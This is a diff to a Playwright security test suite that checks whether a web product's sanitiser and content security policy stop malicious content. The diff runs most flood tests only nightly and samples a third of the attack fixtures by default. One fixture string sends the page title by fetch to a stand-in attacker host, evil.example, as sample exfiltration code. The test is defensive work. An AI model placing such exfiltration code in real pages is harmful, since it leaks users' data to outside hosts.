@@ -2,7 +2,7 @@ import type { Page } from '@playwright/test';
 import { createHash } from 'node:crypto';
 import { contentItem, serveContent, type Region } from '../fixtures/content.ts';
 import { attacks, floods, type Attack } from '../fixtures/malicious-content.ts';
-import { expect, test } from '../fixtures/test.ts';
+import { expect, nightly, test } from '../fixtures/test.ts';
 
 /** Records an attack's effects: it ran, reached another host or hid the page; and what the browser refused. */
 async function watch(page: Page) {
@@ -62,17 +62,21 @@ test.describe('in the product, with the policy of the page switched off', () => 
   });
 
   for (const flood of floods)
-    test(`${flood.name} in one item neither stops the page nor fills the store of the browser`, async ({ page }) => {
-      const found = await watch(page);
-      await serveContent(page, (region) => (region === 'Sign In' ? [itemOf(region, flood, 1)] : []));
+    test(
+      `${flood.name} in one item neither stops the page nor fills the store of the browser`,
+      flood === floods[0] ? {} : nightly,
+      async ({ page }) => {
+        const found = await watch(page);
+        await serveContent(page, (region) => (region === 'Sign In' ? [itemOf(region, flood, 1)] : []));
 
-      await page.goto('/login');
+        await page.goto('/login');
 
-      await expect(page.getByText('Harmless 1')).toBeVisible();
-      await page.getByLabel('Username').fill('ada@quaywatch.test');
-      expect(await page.evaluate(() => localStorage.getItem('content:Sign In'))).toBeNull();
-      expect(found).toEqual({ runs: 0, outside: [], refused: [] });
-    });
+        await expect(page.getByText('Harmless 1')).toBeVisible();
+        await page.getByLabel('Username').fill('ada@quaywatch.test');
+        expect(await page.evaluate(() => localStorage.getItem('content:Sign In'))).toBeNull();
+        expect(found).toEqual({ runs: 0, outside: [], refused: [] });
+      },
+    );
 });
 
 // Replaces the sanitiser with one that lets everything pass: only the policy remains.
@@ -96,6 +100,9 @@ const track = `
   fetch('https://evil.example/data', { method: 'POST', mode: 'no-cors', body: document.title }).catch(() => {});
 `;
 const trackIntegrity = `sha384-${createHash('sha384').update(track).digest('base64')}`;
+
+/** Each takes two pages: `npm test` has a third of them. */
+const tried = process.env.TEST_IN_FULL ? attacks : attacks.filter((_, number) => number % 3 === 0);
 
 test.describe('on a page without the sanitiser', () => {
   test.use({
@@ -132,7 +139,6 @@ test.describe('on a page without the sanitiser', () => {
     test(`the policy of the product alone stops every attack that is ${way}; without it each of them works`, async ({
       page,
     }) => {
-      // Two pages for each attack.
       test.slow();
       const found = await watch(page);
       const { 'content-security-policy': policy = '', 'integrity-policy': integrityPolicy = '' } = (
@@ -158,7 +164,7 @@ test.describe('on a page without the sanitiser', () => {
         found.outside.length > 0 ||
         !(await page.getByRole('heading', { name: 'Fixture' }).isVisible());
 
-      for (const attack of attacks.filter(({ parsedOnly }) => way === 'parsed' || !parsedOnly)) {
+      for (const attack of tried.filter(({ parsedOnly }) => way === 'parsed' || !parsedOnly)) {
         await open(attack, false);
         await expect.poll(hasStruck, `${attack.name} without the policy`).toBe(true);
 
